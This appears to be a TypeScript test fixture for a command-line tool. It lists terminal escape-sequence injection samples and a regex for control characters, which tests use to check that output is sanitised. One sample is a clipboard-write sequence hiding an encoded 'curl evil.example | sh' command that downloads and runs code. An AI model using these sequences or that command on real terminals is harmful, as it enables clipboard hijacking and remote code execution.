// What the cli tests look for in netcli's output: any character a terminal obeys rather than
// shows. Written here from the standards (ECMA-48's C0 and C1, DEL, Unicode's bidi controls),
// not from the screen in cli/terminal-text.ts, so that the tests check it rather than repeat it.

/** C0 but newline and tab, DEL, C1, and the bidi controls (embeddings, overrides, isolates, marks). */
// eslint-disable-next-line no-control-regex -- control characters are what it finds
export const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** What a hostile control plane puts into a name or a detail, each an attack a terminal obeys. */
export const ATTACKS = {
  title: '\x1b]0;pwned\x07',
  clear: '\x1b[2J\x1b[H',
  clipboard: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  reset: '\x1bc',
  csi8bit: '\x9b2J',
  osc8bit: '\x9d0;pwned\x9c',
  rightToLeft: '\u202e',
  isolate: '\u2066',
  backspaces: '\x08\x08\x08',
  carriageReturn: '\r',
} as const;

/** `word` with every attack in it: what is left once screened is `word` and spaces. */
export function hostile(word: string): string {
  return `${word.slice(0, 2)}${Object.values(ATTACKS).join('')}${word.slice(2)}`;
}
